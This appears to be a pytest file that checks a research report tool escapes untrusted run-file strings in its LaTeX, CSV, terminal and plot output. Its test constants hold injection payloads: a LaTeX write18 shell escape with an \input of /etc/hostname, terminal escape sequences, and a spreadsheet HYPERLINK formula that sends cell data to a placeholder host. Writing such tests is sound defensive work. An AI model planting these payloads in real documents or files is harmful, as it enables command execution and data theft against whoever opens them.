"""Run files from others: their strings reach every output of the report, `python -m
relaympi.results show` and the training's summary line only as data (no injected LaTeX line, no
spreadsheet formula, no mathtext, no terminal escape)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from relaympi import report
from relaympi.report.format import table_csv
from relaympi.report.tables import Table
from tests import run_factories as rf

# each reads its run files in worker processes, most also plot (1 to 7 s each)
pytestmark = pytest.mark.slow

EPOCHS = np.array([0.0, 1.0, 2.0, 3.0])
ACC = np.array([[0.1, 0.1], [0.5, 0.9], [0.85, 0.8], [0.9, 0.9]])
COSTS: dict[str, Any] = {
    "time_s": [0.0, 1.0, 2.5, 3.5],
    "time_compute_s": [[0, 0], [0.2, 0.4], [0.6, 0.8], [0.8, 1.0]],
    "time_comm_s": [[0, 0], [0.1, 0.1], [0.2, 0.2], [0.7, 0.7]],
    "time_sync_s": [[0, 0], [0, 0.1], [0, 0.2], [0, 0.3]],
    "bytes_sent": [[0, 0], [100, 300], [200, 600], [300, 900]],
}
PROVENANCE = {
    "transport_backend": "local",
    "hosts": ["a"],
    "nodes": 1,
    "ranks_per_node": 2,
    "cpu_model": "CPU X",
}
# a TeX payload on a line of its own, and a terminal escape (clear the screen, set the title)
TEX = "\n\\immediate\\write18{touch pwned}\\input{/etc/hostname}\n"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\x9b31m"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def write(path: Path, provenance: dict | None = None, **config) -> Path:
    return rf.write_classification_run(
        path,
        ACC,
        EPOCHS,
        costs=COSTS,
        provenance={**PROVENANCE, **(provenance or {})},
        **{"task": "digits", "alpha": 1.0, **config},
    )


def test_no_run_file_string_starts_a_latex_line(tmp_path: Path, capsys) -> None:
    """A newline in the CPU model (a cost table's title: its comment line and caption) or in a
    topology (a cell) never puts a line of the file's own into the .tex output."""
    write(tmp_path / "runs" / "a.h5", {"cpu_model": "CPU" + TEX})
    write(tmp_path / "runs" / "b.h5", topology="ring" + TEX, seed=1)
    out = tmp_path / "out"
    assert report.main([str(tmp_path / "runs"), "--format", "latex", "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    texts = [printed, *(p.read_text() for p in sorted(out.glob("*.tex")))]
    assert len(texts) >= 3 and any("Cost" in t for t in texts[1:])
    for text in texts:
        for line in text.splitlines():
            assert not line.startswith("\\immediate") and not line.startswith("\\input"), line
            if "write18" in line:  # on the comment line, or escaped in a caption or cell
                assert line.startswith("% ") or "\\textbackslash{}immediate" in line, line


def test_no_csv_cell_is_a_formula(tmp_path: Path, capsys) -> None:
    """A string cell that starts with =, +, -, @, a tab or CR gets a leading single quote, in the
    tables and the problems (on one line: a lone CR would start a row); numbers, negative ones
    included, stay numbers."""
    table = Table(name="t", title="t", caption="", kind="x", header=[], rows=[])
    table.records = [
        {"label": FORMULA, "a": "+1", "b": "-cmd", "c": "@SUM(A1)", "d": "\tx", "e": " \r=x"},
        {"label": "plain", "a": -1.5, "b": -2, "c": "ok", "d": "", "e": "x-y"},
    ]
    rows = list(csv.DictReader(io.StringIO(table_csv(table))))
    assert rows[0] == {
        "label": "'" + FORMULA,
        "a": "'+1",
        "b": "'-cmd",
        "c": "'@SUM(A1)",
        "d": "' x",
        "e": "'  =x",
    }
    assert rows[1] == {"label": "plain", "a": "-1.5", "b": "-2", "c": "ok", "d": "", "e": "x-y"}
    # end to end: a topology in the config is a cell of the written CSV files and of stdout
    write(tmp_path / "runs" / "a.h5", topology=FORMULA)
    (tmp_path / "runs" / "=cmd.h5").write_bytes(b"not a run file")
    out = tmp_path / "out"
    assert report.main([str(tmp_path / "runs"), "--format", "csv", "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    files = [p.read_text() for p in sorted(out.glob("*.csv"))]
    cells = [
        cell for text in [printed, *files] for row in csv.reader(io.StringIO(text)) for cell in row
    ]
    assert "'" + FORMULA in cells
    assert any(cell.startswith("'=cmd.h5") or "/=cmd.h5" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # a number, never a string


def test_a_dollar_in_a_label_is_plotted_literally(tmp_path: Path) -> None:
    """A label holding $...$ with an unknown command (mathtext would fail on it) is shown as
    typed, and --out still writes every plot and index.html."""
    from relaympi.report.plots import curves_figure
    from relaympi.report.summary import Curve

    label = "ring$\\undefinedcommand$ $5"
    curve = Curve(EPOCHS, ACC[:, 0], ACC.mean(axis=1), ACC[:, 1])
    figure = curves_figure("title $\\nope$", {label: [curve]})
    figure.canvas.draw()  # mathtext would raise here
    texts: list[Any] = [t for t in figure.findobj(match=lambda a: hasattr(a, "_preprocess_math"))]
    shown = {t._preprocess_math(t.get_text()) for t in texts if t.get_text()}
    assert (label, False) in shown and ("title $\\nope$", False) in shown
    write(tmp_path / "runs" / "a.h5", topology=label)
    write(tmp_path / "runs" / "b.h5", {"cpu_model": "CPU $\\nope$"}, alpha=0.1)
    out = tmp_path / "out"
    assert report.main([str(tmp_path / "runs"), "--out", str(out)]) == 0
    names = {p.name for p in out.iterdir()}
    assert "index.html" in names
    assert {"curves_accuracy_digits_n2_alpha1.png", "accuracy_digits_n2.png"} <= names
    assert any(n.startswith("time_cost_") for n in names)


def test_console_output_holds_no_terminal_escape(tmp_path: Path, capsys) -> None:
    """The report (every format), `python -m relaympi.results show` and the training's summary
    line print a run file's strings without their control characters."""
    from relaympi.results import main as results_main
    from relaympi.training.run_file import print_summary

    run = write(
        tmp_path / "runs" / "a.h5",
        {"cpu_model": "CPU" + ESCAPES, "nodes": "1" + ESCAPES},
        topology="ring" + ESCAPES,
    )
    for fmt in ("text", "markdown", "csv", "latex"):
        assert report.main([str(tmp_path / "runs"), "--format", fmt]) == 0
        printed = capsys.readouterr().out
        assert "ring" in printed and not set(printed) & set("\x1b\x07\r\x9b"), (fmt, printed)
    assert results_main(["show", str(run)]) == 0
    printed = capsys.readouterr().out
    assert "CPU" in printed and not set(printed) & set("\x1b\x07\r\x9b"), printed
    print_summary(run, "completed")
    printed = capsys.readouterr().out
    assert "workers on 1" in printed and not set(printed) & set("\x1b\x07\r\x9b"), printed
    assert printed.count("\n") == 1


@pytest.mark.parametrize("fmt", ["text", "markdown", "latex"])
def test_problems_are_one_line_each(tmp_path: Path, capsys, fmt: str) -> None:
    """A file name with a newline stays on its problem's line."""
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "bad\n\\input{x}.h5").write_bytes(b"not a run file")
    write(tmp_path / "runs" / "a.h5")
    assert report.main([str(tmp_path / "runs"), "--format", fmt]) == 0
    printed = capsys.readouterr().out
    (line,) = [line for line in printed.splitlines() if "not an HDF5 file" in line]
    assert "bad \\input{x}.h5" in line
